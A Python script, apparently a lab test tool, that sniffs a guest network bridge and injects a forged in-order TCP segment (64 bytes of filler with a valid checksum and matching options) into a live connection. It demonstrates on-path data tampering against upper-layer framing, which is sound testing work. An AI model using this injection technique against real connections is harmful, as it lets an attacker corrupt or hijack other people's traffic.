#!/usr/bin/env python3
"""Injects one forged data segment into a live connection from the guests' bridge: what an
attacker on the path (or inside the window) can do. Usage: inject-segment.py BRIDGE PORT SECONDS

Watches the bridge for data segments sent to PORT. After the third, it sends the receiver a
segment as from the sender: the next sequence number the sender will use (so the receiver's TCP
takes it in order, before the real one), the sender's latest acknowledgement, window and TCP
options (timestamps: PAWS passes), 64 octets of 0x5a, and a valid TCP checksum. The real
segment that follows overlaps it, and TCP keeps what came first: the forged octets replace the
start of the sender's next FPDU. Prints what it sent; exits 1 if it saw no data within SECONDS.
Standard library only (AF_PACKET); run it in the namespace that holds the bridge.
"""
import socket
import sys
import time

from bridge import open_bridge, parse, tcp_frame

FORGED = b"\x5a" * 64


def forged(p):
    """A frame as from p's sender to its receiver: the sender's next sequence number, FORGED."""
    seq = (p["seq"] + p["len"]) & 0xFFFFFFFF
    frame = tcp_frame(p["eth_dst"], p["eth_src"], p["src"], p["dst"], p["sport"], p["dport"], seq, p["ack"], 0x18, p["window"], p["options"], FORGED)
    return frame, seq


def main():
    bridge, port, secs = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
    s = open_bridge(bridge)
    seen = 0
    start = time.time()
    while time.time() - start < secs:
        try:
            p = parse(s.recv(65535))
        except socket.timeout:
            continue
        # Data toward PORT (not a frame of ours: those carry the forged octets).
        if not p or p["dport"] != port or p["len"] == 0 or p["flags"] & 0x07:
            continue
        seen += 1
        if seen == 3:
            frame, seq = forged(p)
            s.send(frame)
            print("inject-segment: %d forged octets to %s:%d at sequence number %d (in order, before the sender's own)"
                  % (len(FORGED), socket.inet_ntoa(p["dst"]), port, seq))
            return
    print("inject-segment: fewer than 3 data segments to port %d in %.0f s" % (port, secs))
    sys.exit(1)


if __name__ == "__main__":
    main()
